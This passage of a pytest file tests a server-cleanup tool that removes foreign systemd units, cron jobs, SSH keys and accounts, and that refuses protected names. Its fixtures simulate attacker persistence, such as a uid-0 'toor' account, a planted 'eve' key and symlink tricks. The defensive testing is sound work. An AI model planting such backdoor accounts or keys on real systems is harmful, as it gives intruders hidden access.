        assert (bare.only().name, bare.only().remedy) == ("/etc/ssh/sshd_config", "hand")


def test_a_file_goes_by_its_name(bare: Droplet) -> None:
    bare.put("etc/systemd/system/x.service", "[Service]\nExecStart=/bin/x secret\n")
    bare.link("etc/systemd/system/multi-user.target.wants/x.service", "/etc/systemd/system/x.service")
    assert "secret" not in bare.only().what
    (bare.root / "etc/systemd/system/multi-user.target.wants/x.service").unlink()
    bare.remove("/etc/systemd/system/x.service")
    assert bare.names() == []
    assert bare.machine.ran == ["systemctl disable --now x.service", "systemctl daemon-reload"]


def test_a_link_goes_and_not_what_it_leads_to(bare: Droplet) -> None:
    bare.put("srv/x", "x")
    bare.link("etc/cron.d/job", str(bare.root / "srv/x"))
    bare.remove("/etc/cron.d/job")
    assert bare.names() == []
    assert (bare.root / "srv/x").exists()


def test_a_key_goes_and_the_others_stay(bare: Droplet) -> None:
    bare.add("root/.ssh/authorized_keys", f"\nno-pty ssh-ed25519 {KEY} eve\n# remark\n")
    bare.remove(f"key:root:{FINGERPRINT}")
    assert (bare.root / "root/.ssh/authorized_keys").read_text() == f"ssh-ed25519 {OPERATORS} me\n\n# remark\n"


@pytest.mark.parametrize("linked", ["home/ci/.ssh/authorized_keys", "home/ci/.ssh"])
def test_a_key_behind_a_link_is_found_and_nothing_there_is_written(bare: Droplet, linked: str) -> None:
    bare.put("srv/ssh/authorized_keys", f"ssh-ed25519 {KEY} eve\n")
    target = bare.root / "srv/ssh" / ("authorized_keys" if linked.endswith("keys") else "")
    bare.link(linked, str(target))
    (name,) = bare.names()
    with pytest.raises((FailedError, OSError)):
        bare.remove(name)
    assert KEY in (bare.root / "srv/ssh/authorized_keys").read_text()


def test_an_account_and_a_member_go_by_debian_s_programs(bare: Droplet) -> None:
    bare.add("etc/passwd", "toor:x:0:0::/root:/bin/bash\n")
    bare.put("etc/group", "docker:x:990:nobody\n")
    bare.remove("account:toor", "member:docker:nobody")
    assert bare.machine.ran == ["userdel --force toor", "gpasswd --delete nobody docker"]


@pytest.mark.parametrize(
    "name",
    ["/etc/passwd", "/etc/cron.d/none", "account:root", "account:deploy", "/etc/crontab", "/etc/sysctl.d/60-bot.conf"],
)
def test_nothing_else_can_be_removed_and_one_wrong_name_stops_all(bare: Droplet, name: str) -> None:
    bare.put("etc/cron.d/job", "x")
    bare.add("etc/crontab", "x")
    with pytest.raises(RefusedError, match="nothing foreign"):
        bare.remove("/etc/cron.d/job", name)
    assert (bare.root / "etc/cron.d/job").exists()


def test_a_hundred_findings_make_no_hundred_lines(bare: Droplet) -> None:
    for number in range(100):
        bare.put(f"etc/cron.d/job{number}", "x")
    lines = foreign.problems(bare.look())
    assert len(lines) == foreign.MOST_PROBLEMS + 1
    assert lines[-1].startswith("80 more")
